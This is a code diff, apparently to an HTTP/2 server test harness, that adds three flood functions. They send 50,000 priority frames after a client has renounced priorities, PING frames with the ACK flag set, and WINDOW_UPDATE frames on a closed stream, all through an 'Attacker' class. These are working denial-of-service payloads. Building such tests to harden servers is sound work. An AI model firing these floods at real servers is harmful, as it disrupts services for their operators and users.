@@ -338,8 +338,28 @@ def priority_flood(target):
     return flood(target, raw_frame(2, 0, 1, struct.pack(">IB", 0, 16)))
 
 
+def renounced_priority_flood(target):
+    """By a client that has said SETTINGS_NO_RFC7540_PRIORITIES."""
+    with Attacker(target, settings={9: 1}) as a:
+        a.send(raw_frame(2, 0, 1, struct.pack(">IB", 0, 16)) for _ in range(50000))
+        return a.settle()
+
+
+def ping_answer_flood(target):
+    return flood(target, raw_frame(6, 1, 0, b"12345678"))
+
+
 def window_update_flood(target):
     return flood(target, window_update(0, 1))
+
+
+def late_window_update_flood(target):
+    """For a stream that is over."""
+    with Attacker(target) as a:
+        a.send([a.headers(1)])
+        a.read(0.5)
+        a.send(window_update(1, 1) for _ in range(50000))
+        return a.settle()
 
 
 def empty_data_flood(target):
@@ -351,7 +371,8 @@ def unknown_frame_flood(target):
     return flood(target, raw_frame(0xbe, 0, 0, b"x"))
 
 
-FLOODS = [ping_flood, settings_flood, large_settings, priority_flood, window_update_flood,
+FLOODS = [ping_flood, ping_answer_flood, settings_flood, large_settings, priority_flood,
+          renounced_priority_flood, window_update_flood, late_window_update_flood,
           empty_data_flood, unknown_frame_flood]
 
 
